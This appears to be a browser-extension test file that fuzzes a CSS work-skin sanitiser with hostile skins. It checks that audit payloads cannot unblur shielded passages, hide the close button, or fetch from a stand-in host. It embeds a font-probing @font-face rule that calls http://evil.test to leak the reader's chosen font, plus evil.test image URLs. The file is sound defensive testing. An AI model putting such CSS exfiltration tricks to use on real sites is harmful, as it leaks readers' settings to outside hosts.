// Hostile work skins (audit F1, F2): the sanitiser fuzzed in Chromium and Firefox with hundreds of
// mutated payloads, and the audit's two payloads carried into the reader of the built extension.
// Any request a payload could make goes to evil.test, which resolves to the demo server: a request
// shows up both in the browser's events and in what the server received.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import puppeteer from 'puppeteer-core';
import { AO3_HOST, startDemoServer } from '../demo/server.mjs';
import { DEMO_WORKS, readReference } from '../demo/stories.mjs';
import { ao3Work } from '../demo/templates.mjs';
import { firefoxProxyPrefs, ROOT, startBrowser, tabIdOf, testBuildProblem, waitFor } from './harness.mjs';
import { extensionPage, openReaderFromPopup, printedPages, setStoredSettings, startFirefox, until, whenBuiltIn } from './firefox-harness.mjs';
import { shieldsShown } from './reader-helpers.mjs';
import { checkInPage, hostileSkins, REFORMATION_PAYLOAD, sanitiserModule, SCOPED_PAYLOAD } from './skin-payloads.mjs';

const EVIL = 'evil.test';
const SKINS = hostileSkins(400);
const MORNING_LIGHT = DEMO_WORKS.find((w) => w.id === 1000003);
/** The demo work with a skin where AO3 puts one: a <style> just before #workskin. */
const skinnedWork = (css) =>
  ao3Work(MORNING_LIGHT, readReference(MORNING_LIGHT.file))
    .replace('<div id="workskin">', `<style type="text/css">${css}</style>\n<div id="workskin">`)
    // Page CSS that would learn the reader's font by declaring a face of the same name (audit F7).
    .replace('</head>', `<style>@font-face { font-family: "GentleReader OpenDyslexic"; src: url(http://${EVIL}/font?reader-font=opendyslexic) }</style></head>`);
// Images the page itself never loads (a <picture> fallback, a srcset candidate it did not pick, a
// lazy image at the far end): opening the reader must not fetch them (audit F6).
const IMAGES_PATH = '/works/1300003';
const imagesWork = () =>
  ao3Work(MORNING_LIGHT, readReference(MORNING_LIGHT.file))
    .replace('<div class="userstuff">', `<div class="userstuff"><p>Pictures: <picture><source srcset="http://${EVIL}/picture-source.png"><img src="http://${EVIL}/picture-img.png" alt="p"></picture> <img src="http://${EVIL}/img-src.png" srcset="http://${EVIL}/img-srcset.png 1x, http://${EVIL}/img-2x.png 2x" alt="s"></p>`)
    .replace('</div></div>\n<div class="afterword', `<p>The end. <img loading="lazy" src="http://${EVIL}/img-lazy.png" alt="l"></p></div></div>\n<div class="afterword`);
const F1_PATH = '/works/1300001';
const F2_PATH = '/works/1300002';
const evilRequests = (urls) => urls.filter((u) => u.includes(EVIL));

/** The reader's skinned works and the host every request a payload could make goes to. */
const SKINNED_ROUTES = {
  [`${AO3_HOST}${F1_PATH}`]: { html: skinnedWork(REFORMATION_PAYLOAD) },
  [`${AO3_HOST}${F2_PATH}`]: { html: skinnedWork(SCOPED_PAYLOAD) },
  [`${EVIL}/`]: { html: 'evil.test is mapped to the demo server, so any request to it is seen' },
};

/** What is painted at the centre of the reader's close button. */
const closeButtonHit = (page) =>
  page.evaluate(() => {
    const root = document.querySelector('[data-gentle-reader=reader]').shadowRoot;
    const close = root.querySelector('[data-testid=rd-close]');
    const box = close.getBoundingClientRect();
    const hit = root.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
    return { display: getComputedStyle(close).display, hitsClose: hit === close, hit: hit?.id || hit?.className };
  });

/** The skin the reader applied (its <style> under #workskin), or undefined. */
const appliedSkin = (page) =>
  page.evaluate(() => [...document.querySelector('[data-gentle-reader=reader]').shadowRoot.querySelectorAll('style')].map((s) => s.textContent).find((t) => t.includes('#workskin')));

/** Each blurred passage in the reader: the content's computed filter and the cover's display. */
const blurredShields = (page) =>
  page.evaluate(() => {
    const root = document.querySelector('[data-gentle-reader=reader]').shadowRoot;
    return [...root.querySelectorAll('.rd-shield-blur')].map((shield) => {
      const content = shield.querySelector('.rd-shield-content');
      const cover = shield.querySelector('.rd-shield-cover');
      return { filter: getComputedStyle(content).filter, cover: cover && getComputedStyle(cover).display };
    });
  });

/** Each folded passage in the reader: the text it holds (none: not in the document) and its note's display. */
const foldedShields = (page) =>
  page.evaluate(() => {
    const root = document.querySelector('[data-gentle-reader=reader]').shadowRoot;
    return [...root.querySelectorAll('.rd-shield-collapse')].map((shield) => ({
      text: shield.querySelector('.rd-shield-content').textContent,
      note: getComputedStyle(shield.querySelector('.rd-shield-note')).display,
    }));
  });

/** F1's skin in the reader: applied, with nothing of what it smuggled. */
function assertReformationDropped(skin) {
  assert.match(skin ?? '', /#workskin \.fine/, "the skin is applied (creator's style is on)");
  assert.doesNotMatch(skin, /evil|rd-close|gr-warning|rd-theme/);
}

/** F2 in the reader: every blurred passage still blurred under its cover. */
function assertBlurHeld(blurred) {
  assert.ok(blurred.length > 0, 'the demo work has blurred passages');
  for (const b of blurred) assert.deepEqual(b, { filter: 'blur(7px)', cover: 'block' });
}

/** F2 in the reader: every folded passage out of the document, its note shown. */
function assertFoldHeld(notes) {
  assert.ok(notes.length > 0, 'the demo work has folded passages');
  for (const n of notes) assert.deepEqual(n, { text: '', note: 'block' });
}

function assertFuzzHeld(result) {
  assert.deepEqual(result.failures.slice(0, 5), [], `${result.failures.length} of ${SKINS.length} skins got through`);
  assert.ok(!result.outside.includes('none'), `nothing outside #workskin hidden: ${result.outside}`);
  assert.ok(result.kept >= 100, `the sanitiser still keeps the harmless parts of most skins (${result.kept})`);
}

describe('work skins in Chromium', { timeout: 180_000 }, () => {
  let session;
  before(async () => {
    session = await startBrowser({
      extraRoutes: { ...SKINNED_ROUTES, [`${AO3_HOST}${IMAGES_PATH}`]: { html: imagesWork() } },
    });
  });
  after(() => session?.close());

  test(`${SKINS.length} mutated hostile skins: no rule reaches outside #workskin, no fetching value, no request`, async () => {
    const page = await session.context.newPage();
    await page.goto(session.demo.origin);
    await page.addScriptTag({ type: 'module', content: sanitiserModule() });
    await page.waitForFunction(() => window.__workSkin);
    const result = await page.evaluate(checkInPage, SKINS);
    assertFuzzHeld(result);
    assert.deepEqual(evilRequests(session.requests), []);
    assert.deepEqual(evilRequests(session.demo.received), []);
    // An ordinary author's skin (the shape of a real AO3 text-message skin) keeps its look.
    const kept = await page.evaluate(() => window.__workSkin.sanitizeWorkSkin('#workskin .phone { max-width: 300px; display: table; margin: auto } #workskin .header { background-color: #f6f6f6; border-bottom: 1px solid #b2b2b2 }', () => new CSSStyleSheet()));
    assert.match(kept, /#workskin \.phone \{[^}]*max-width: 300px/);
    assert.match(kept, /#workskin \.header \{[^}]*background-color: rgb\(246, 246, 246\)/);
    await page.close();
  });

  /** Opens the reader the way the shortcut does (the commands event for the page's tab). */
  async function openReader(page) {
    const tabId = await tabIdOf(session, page);
    await session.serviceWorker.evaluate(async (id) => chrome.commands.onCommand.dispatch('open-reader', await chrome.tabs.get(id)), tabId);
    await page.locator('[data-testid=rd-dialog]').waitFor({ timeout: 15_000 });
    await page.waitForFunction(() => performance.getEntriesByName('gentle-reader-built').length > 0, null, { timeout: 30_000 });
  }

  async function setReader(change) {
    await session.serviceWorker.evaluate(async (c) => {
      const { settings = {} } = await chrome.storage.sync.get('settings');
      await chrome.storage.sync.set({ settings: { ...settings, ...(c.shield ? { shield: c.shield } : {}), reader: { ...(settings.reader ?? {}), ...c.reader } } });
    }, change);
  }

  test("the audit's comment re-formation skin, creator's style on, OpenDyslexic: no request, the close button there and clickable, our font loaded", async () => {
    await setReader({ reader: { creatorStyle: true, font: 'opendyslexic' }, shield: 'blur' });
    const page = await session.context.newPage();
    await page.goto(`http://${AO3_HOST}${F1_PATH}`);
    await openReader(page);
    assertReformationDropped(await appliedSkin(page));
    await page.waitForTimeout(1_000);
    const close = await closeButtonHit(page);
    assert.notEqual(close.display, 'none');
    assert.equal(close.hitsClose, true, `a click on "Close reader" lands on ${close.hit}`);
    await page.waitForFunction(() => [...document.fonts].some((f) => /^"?GentleReader OpenDyslexic [0-9a-f]{16}"?$/.test(f.family) && f.status === 'loaded'), null, { timeout: 10_000 });
    assert.deepEqual(evilRequests(session.requests), []);
    assert.deepEqual(evilRequests(session.demo.received), []);
    await page.close();
    await setReader({ reader: { font: 'serif' } });
  });

  test('the reader shows only images the page loaded; the others wait for a click (F6)', async () => {
    const page = await session.context.newPage();
    await page.goto(`http://${AO3_HOST}${IMAGES_PATH}`);
    await page.waitForSelector('[data-gentle-reader=banner]', { state: 'attached', timeout: 15_000 });
    await page.waitForTimeout(1_000);
    const before = new Set(evilRequests(session.requests));
    assert.ok(!before.has(`http://${EVIL}/img-lazy.png`), 'the page never loaded the lazy image');
    await openReader(page);
    await page.waitForTimeout(1_500);
    const added = evilRequests(session.requests).filter((u) => !before.has(u));
    assert.deepEqual(added, [], 'opening the reader fetched nothing the page had not');
    const placeholders = page.locator('[data-testid=rd-dialog] .rd-image-load');
    assert.ok((await placeholders.count()) >= 3, 'the images the page did not show wait behind buttons');
    await placeholders.last().click();
    await waitFor(() => Promise.resolve(evilRequests(session.requests)), (r) => r.includes(`http://${EVIL}/img-lazy.png`), { what: 'the image the reader asked for' });
    await page.close();
  });

  test('a scoped skin cannot unblur or unfold a shielded passage (reader and page), nor cover the bar', async () => {
    const page = await session.context.newPage();
    await page.goto(`http://${AO3_HOST}${F2_PATH}`);
    // In the page too (audit F9): the page's own `#workskin * { filter: none !important }` does not unblur.
    await page.waitForSelector('[data-gentle-reader-shield=blur]', { timeout: 15_000 });
    await page.waitForTimeout(600); // the blur fades in
    const pageFilters = await page.$$eval('[data-gentle-reader-shield=blur]', (els) => [...new Set(els.map((el) => getComputedStyle(el).filter))]);
    // The blur grows with the text (0.5em, at least 6 px): held, whatever the skin says.
    assert.ok(pageFilters.length > 0 && pageFilters.every((f) => Number(/^blur\(([\d.]+)px\)$/.exec(f)?.[1]) >= 6), `blurred: ${pageFilters}`);
    await openReader(page);
    assertBlurHeld(await blurredShields(page));
    const close = await closeButtonHit(page);
    assert.equal(close.hitsClose, true, `the skin's fixed ::before stays inside the text column (a click on "Close reader" lands on ${close.hit})`);
    await page.close();

    await setReader({ shield: 'collapse' });
    const folded = await session.context.newPage();
    await folded.goto(`http://${AO3_HOST}${F2_PATH}`);
    await openReader(folded);
    assertFoldHeld(await foldedShields(folded));
    await folded.close();
    await setReader({ reader: { creatorStyle: false }, shield: 'blur' });
  });
});

const FIREFOX_PATH = process.env.FIREFOX_PATH ?? '/usr/bin/firefox-esr';
const skipFirefox = !existsSync(FIREFOX_PATH) ? `Firefox ESR is missing at ${FIREFOX_PATH}` : false;

describe('work skins in Firefox', { skip: skipFirefox, timeout: 180_000 }, () => {
  let browser;
  let demo;
  before(async () => {
    const notTestBuild = testBuildProblem(path.join(ROOT, '.output/firefox-mv2'));
    assert.ok(!notTestBuild, notTestBuild);
    demo = await startDemoServer();
    browser = await puppeteer.launch({
      browser: 'firefox',
      executablePath: FIREFOX_PATH,
      headless: true,
      // Every host, evil.test included, reaches the demo server: a request cannot leave unseen.
      extraPrefsFirefox: firefoxProxyPrefs(demo),
    });
  });
  after(async () => {
    await browser?.close();
    await demo?.close();
  });

  test(`${SKINS.length} mutated hostile skins: no rule reaches outside #workskin, no fetching value, no request`, async () => {
    const page = await browser.newPage();
    await page.goto(`http://${AO3_HOST}/`);
    await page.addScriptTag({ type: 'module', content: sanitiserModule() });
    await page.waitForFunction(() => window.__workSkin);
    assertFuzzHeld(await page.evaluate(checkInPage, SKINS));
    await new Promise((r) => setTimeout(r, 500));
    assert.deepEqual(evilRequests(demo.received), []);
  });
});

describe("the audit's skins through the reader in Firefox", { skip: skipFirefox, timeout: 240_000 }, () => {
  let firefox;
  /** One of the add-on's own pages, to change its settings. */
  let extension;
  before(async () => {
    firefox = await startFirefox({}, { extraRoutes: SKINNED_ROUTES });
    extension = await extensionPage(firefox.browser, 'options.html');
  });
  after(async () => {
    await firefox?.close();
  });
  const openSkinned = async (pathname) => {
    const opened = await openReaderFromPopup(firefox.browser, `http://${AO3_HOST}${pathname}`);
    await whenBuiltIn(opened.page);
    return opened;
  };

  test("F1, the comment re-formation skin, creator's style on, OpenDyslexic: no request, the close button there and on top, our font loaded", async () => {
    await setStoredSettings(extension, { shield: 'blur', reader: { creatorStyle: true, font: 'opendyslexic' } });
    const { page } = await openSkinned(F1_PATH);
    assertReformationDropped(await appliedSkin(page));
    await new Promise((r) => setTimeout(r, 1_000));
    const close = await closeButtonHit(page);
    assert.notEqual(close.display, 'none');
    assert.equal(close.hitsClose, true, `a click on "Close reader" lands on ${close.hit}`);
    await until(() => page.evaluate(() => [...document.fonts].some((f) => /^"?GentleReader OpenDyslexic [0-9a-f]{16}"?$/.test(f.family) && f.status === 'loaded')), Boolean, 10_000);
    assert.deepEqual(evilRequests(firefox.demo.received), [], 'no request left for the payload\'s host');
    await page.close();
  });

  test('F2, the scoped skin: blurred passages stay blurred and left off paper, folded ones out of the document, the bar on top, no request', async () => {
    await setStoredSettings(extension, { shield: 'blur', reader: { creatorStyle: true, font: 'serif' } });
    const { page, inRoot } = await openSkinned(F2_PATH);
    assert.match((await appliedSkin(page)) ?? '', /#workskin \.ok/, "the skin is applied (creator's style is on)");
    assertBlurHeld(await blurredShields(page));
    const close = await closeButtonHit(page);
    assert.equal(close.hitsClose, true, `the skin's fixed ::before stays inside the text column (a click on "Close reader" lands on ${close.hit})`);
    // On paper too: the skin's `#workskin p { opacity: 0 !important }` does not hide the print notes, nor its `#workskin div { display: block !important }` bring back the blurred text.
    const shields = await inRoot(shieldsShown);
    const squashed = (text) => text.replace(/\s+/g, '');
    const openings = await inRoot((root) => [...root.querySelectorAll('.rd-shield-content')].map((c) => c.textContent.trim().split(/\s+/).slice(0, 6).join('')));
    const printed = squashed((await printedPages(firefox.browser, page, 'firefox-skin-f2-print')).join(''));
    for (const { about } of shields) assert.ok(printed.includes(squashed(`A passage about ${about} is left out (shielded in the reader)`)), `printed: "A passage about ${about} is left out"`);
    assert.ok(!printed.includes(':show'), 'no cover is printed');
    // pdf.js finds no text in a blurred passage Firefox printed (a filter prints as a picture): the cover check above is the one that tells.
    for (const opening of openings) assert.ok(!printed.includes(opening), `a blurred passage is not printed ("${opening}")`);
    await page.close();

    await setStoredSettings(extension, { shield: 'collapse' });
    const folded = await openSkinned(F2_PATH);
    assertFoldHeld(await foldedShields(folded.page));
    await folded.page.close();
    assert.deepEqual(evilRequests(firefox.demo.received), [], 'no request left for the payload\'s host');
    await setStoredSettings(extension, { shield: 'blur', reader: { creatorStyle: false } });
  });
});
